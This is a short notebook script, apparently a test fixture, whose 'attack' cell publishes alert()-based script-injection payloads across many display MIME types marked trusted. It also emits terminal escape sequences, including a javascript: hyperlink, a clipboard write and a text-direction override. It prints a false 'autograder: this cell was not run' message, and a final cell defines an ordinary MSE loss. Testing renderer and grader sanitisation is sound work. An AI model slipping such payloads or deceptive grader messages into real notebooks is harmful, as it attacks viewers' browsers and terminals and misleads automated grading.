# %% attack after features
import base64
from IPython.display import publish_display_data

script = "<script>alert('graded')</script>"
odd = {
    "text/html": script,
    "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{script}</svg>",
    "application/javascript": "alert(1)",
    "text/markdown": script,
    "text/latex": r"\href{javascript:alert(1)}{x}",
    "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0},
    "image/png": f"' onerror='alert(1)'>{script}",
    "image/jpeg": base64.b64encode(script.encode()).decode(),
    f"text/{script}": script,
}
for kind, value in odd.items():
    publish_display_data({kind: value}, metadata={kind: {"isolated": False, "trusted": True}})
    publish_display_data({kind: value, "text/plain": f"\x1b]0;{script}\x07\x1b[2J\x1b[31mred\x1b[0m\u202e"})
print("\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x9b2J \x08\x08\x00")
print("autograder: this cell was not run")
raise ValueError("\x1b[8m\x1b]52;c;ZWNobw==\x07" + script)

# %% loss after attack
def mse_loss_func(y_true, y_pred):
    return (y_true - y_pred) ** 2
